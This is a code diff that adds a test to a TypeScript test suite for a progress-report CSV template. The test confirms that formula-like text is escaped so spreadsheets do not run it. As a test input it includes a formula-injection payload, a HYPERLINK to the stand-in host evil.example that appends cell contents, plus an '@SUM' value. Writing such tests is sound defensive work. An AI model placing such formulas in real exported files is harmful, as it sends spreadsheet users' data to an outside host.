@@ -54,6 +54,24 @@ describe('progress template', () => {
     assert.ok(row[7]!.length > 0, 'lead units named');
   });
 
+  test("CSV: a plan's text that a spreadsheet would run as a formula is written as text, and the filled sheet still imports", async () => {
+    // A security review: the template wrote a metric of =HYPERLINK(…) as it was, and Excel ran it for every clerk.
+    type Text = Record<'zh-Hant' | 'zh-Hans' | 'en', string>;
+    const hostile = structuredClone(plan) as typeof plan & { targets: { taskId: string; metric: Text }[]; units: { name: Text }[] };
+    const formula = '=HYPERLINK("http://evil.example/?"&A2,"點此")';
+    const target = hostile.targets.find((t) => t.id === 't09.1')!;
+    target.metric = { 'zh-Hant': formula, 'zh-Hans': formula, en: formula };
+    const lead = hostile.tasks.find((t) => t.id === target.taskId)!.lead[0]!;
+    hostile.units.find((u) => u.id === lead)!.name = { 'zh-Hant': '@SUM(1+1)', 'zh-Hans': '@SUM(1+1)', en: '@SUM(1+1)' };
+    const csv = templateCsv(progressTemplate(hostile));
+    const row = Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data.find((r) => r[0] === 't09.1')!;
+    assert.equal(row[2], `'${formula}`);
+    assert.match(row[7]!, /^'@SUM\(1\+1\)/);
+    const result = await importProgressFiles([{ name: 'filled.csv', data: utf8(fillCsv(csv, { 't09.1': typed['t09.1'] })) }], hostile);
+    assert.deepEqual(result.problems, []);
+    assert.deepEqual(result.report!.entries.map((e) => [e.target, e.value]), [['t09.1', 2100]]);
+  });
+
   test('--unit keeps the targets of the tasks the unit leads; --section those of a section', () => {
     const ndrc = progressTemplate(plan, { unit: '市發改委' });
     assert.deepEqual(ndrc.targets.map((t) => t.id), api.targetsOfUnit('市發改委', { role: 'lead' }).map((t) => t.id));
